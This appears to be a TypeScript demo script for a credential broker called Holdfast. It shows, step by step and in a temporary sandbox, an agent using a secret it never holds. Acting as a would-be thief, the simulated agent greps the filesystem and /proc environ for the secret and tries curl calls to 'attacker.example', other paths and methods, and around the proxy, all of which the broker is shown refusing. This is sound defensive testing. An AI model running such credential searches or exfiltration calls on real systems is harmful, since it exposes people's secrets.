// `npm run demo`: the main job on this machine, told step by step: an agent uses a credential that it never holds. Everything is real and in
// a temporary home; each step checks what it says, and the demo fails when one does not show it.

import { rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { leaksIn } from '../packages/testkit/src/canary.ts';
import { Installation, type Ran } from '../packages/testkit/src/installation.ts';
import { echoAnswer, startOrigin, type Origin } from '../packages/testkit/src/origin.ts';

const secret = `sk-demo-${randomBytes(12).toString('hex')}`;
/** What may be shown of a secret. */
const masked = (text: string) => text.replaceAll(secret, `${'•'.repeat(8)}${secret.slice(-4)}`);

let steps = 0;
const say = (text: string) => process.stdout.write(`${text}\n`);
const step = (title: string) => say(`\n${(steps += 1)}. ${title}`);
const typed = (command: string) => say(`   $ ${command}`);
const seen = (who: string, text: string) => {
  for (const line of text.trimEnd().split('\n')) say(`   ${who.padEnd(8)}│ ${masked(line)}`);
};

/** The claim a step makes; without it the demo ends with a fault. */
function check(holds: boolean, claim: string): void {
  if (!holds) throw new Error(`this did not hold: ${claim}`);
  say(`   ✓ ${claim}`);
}

function succeeded(ran: Ran, command: string): Ran {
  if (ran.code !== 0) throw new Error(`${command} ended with ${ran.code}\n${ran.stdout}${ran.stderr}`);
  return ran;
}

async function play(holdfast: Installation, service: Origin, started: number): Promise<void> {
  const host = `localhost:${service.port}`;
  const run = (...command: string[]) => holdfast.cli(['run', '--', ...command], { cwd: holdfast.work });
  const operate = async (parameters: string[], input?: string) => {
    typed(
      `holdfast ${parameters
        .map((each) => (/[*]/.test(each) ? `'${each}'` : each))
        .join(' ')
        .replace(holdfast.folder, '…')}`,
    );
    return succeeded(await holdfast.operator(parameters, input === undefined ? {} : { input }), parameters.join(' '));
  };

  step('A relay and a daemon on this machine, and a fleet with your operator key');
  typed('npm start');
  await holdfast.start();
  const made = JSON.parse((await operate(['init', '--name', 'demo', '--json'])).stdout) as { fleet: string };
  say(`   fleet ${made.fleet.slice(0, 16)}…; the relay stores ciphertext only`);

  step('This machine asks to be enrolled, and you admit it by its code and its words');
  typed('holdfast enroll');
  typed('holdfast approve CODE');
  const agent = await holdfast.enrol('main');
  say(`   agent ${agent.slice(0, 16)}…, with keys of its own`);

  step('You keep a secret, fence it, and grant it');
  const ca = path.join(holdfast.folder, 'service.pem');
  await writeFile(ca, service.caPem);
  const fence = [
    '--host',
    host,
    '--path',
    '/v1/**',
    '--method',
    'GET',
    '--attach',
    'bearer',
    '--env',
    'DEMO_TOKEN',
    '--allow-private',
    '--ca',
    ca,
  ];
  await operate(['vault', 'add', 'demo', ...fence], secret);
  await operate(['vault', 'grant', 'demo', '--to', 'main']);

  step('The agent uses it, in a sealed session');
  typed(`holdfast run -- curl https://${host}/v1/me`);
  const called = succeeded(await run('curl', '-sS', `https://${host}/v1/me`), 'curl');
  seen(
    'service',
    service.seen
      .map(({ method, url, headers }) => `${method} ${url}  authorization: ${String(headers['authorization'] ?? 'none')}`)
      .join('\n'),
  );
  seen('agent', called.stdout.split('\n')[0] ?? '');
  check(service.seen.at(-1)?.headers['authorization'] === `Bearer ${secret}`, 'the service got the real secret');
  check(
    leaksIn(called.stdout, secret).length === 0 && /Bearer \*+/.test(called.stdout),
    'the service repeated it to the agent, and the agent saw stars',
  );

  step('The agent looks for it everywhere it can');
  typed("holdfast run -- sh -c 'env; cat /proc/*/environ; grep -r sk-demo / …'");
  const search =
    'echo $DEMO_TOKEN; env; cat /proc/*/environ | tr "\\0" "\\n"; grep -rIl sk-demo ~ /etc /tmp /run . 2>/dev/null; ls /proc | grep -c "^[0-9]"';
  const looked = succeeded(await run('sh', '-c', search), 'the search');
  seen('agent', `DEMO_TOKEN=${looked.stdout.split('\n')[0] ?? ''}`);
  check(
    looked.stdout.startsWith('hf_') && !looked.stdout.includes('sk-demo'),
    'it finds a placeholder that is worth nothing anywhere else',
  );

  step('The agent tries to take it elsewhere');
  const before = service.seen.length;
  for (const [what, ...command] of [
    ['another path', 'curl', '-sS', `https://${host}/v2/admin`],
    ['another method', 'curl', '-sS', '-X', 'DELETE', `https://${host}/v1/me`],
    ['another host', 'curl', '-sS', 'https://attacker.example/'],
    ['without TLS', 'curl', '-sS', `http://${host}/v1/me`],
    ['past the broker', 'curl', '-sS', '--noproxy', '*', `https://${host}/v1/me`],
  ] as const) {
    const tried = await run(...command);
    const answer = `${tried.stdout}${tried.stderr}`.trim().split('\n')[0] ?? '';
    const code = /"code":"(\w+)"/.exec(answer)?.[1];
    say(`   ${what.padEnd(16)}│ ${code === undefined ? answer : `refused by the broker: ${code}`}`);
  }
  check(service.seen.length === before, 'the service saw none of these');

  step('What it cost: how long the credential could have been used');
  typed('holdfast time');
  seen('time', succeeded(await holdfast.cli(['time']), 'time').stdout);

  step('The record: written before each use, signed, and checked from public keys');
  typed('holdfast audit show');
  const shown = succeeded(await holdfast.cli(['audit', 'show']), 'audit show')
    .stdout.trim()
    .split('\n');
  seen('audit', shown.filter((line) => /minted|consumed|credentialed|refused/.test(line)).join('\n'));
  typed('holdfast audit verify');
  seen('audit', succeeded(await holdfast.cli(['audit', 'verify']), 'audit verify').stdout);

  step('You revoke the agent');
  await operate(['revoke', 'main']);
  const after = await run('curl', '-sS', `https://${host}/v1/me`);
  seen('agent', after.stderr.split('\n')[0] ?? '');
  check(after.code === 125 && service.seen.length === before, 'the very next call is refused');
  succeeded(await holdfast.cli(['audit', 'verify', '--agent', agent]), 'audit verify');
  check(true, 'the evidence is still there, and still holds');

  say(
    `\nAll of it in ${((performance.now() - started) / 1000).toFixed(1)} s, in a temporary home that is removed now. For real use: npm start`,
  );
}

async function main(): Promise<number> {
  const started = performance.now();
  say('Holdfast: an agent uses a credential that it never holds.');
  const service = await startOrigin(echoAnswer);
  const holdfast = await Installation.create();
  const end = async () => {
    await holdfast.remove();
    await service.close();
  };
  let interrupted = false;
  for (const signal of ['SIGINT', 'SIGTERM', 'SIGHUP'] as const) {
    process.on(signal, () => {
      if (interrupted) return; // the terminal and npm both say it
      interrupted = true;
      say('\nEnding, and removing the temporary home.');
      void end().finally(() => process.exit(130));
    });
  }
  try {
    await play(holdfast, service, started);
    return 0;
  } catch (thrown) {
    if (interrupted) return 130;
    process.stderr.write(`\nThe demo stopped: ${masked(thrown instanceof Error ? thrown.message : String(thrown))}\n`);
    return 1;
  } finally {
    await end();
    await rm(holdfast.folder, { recursive: true, force: true });
  }
}

process.exitCode = await main();
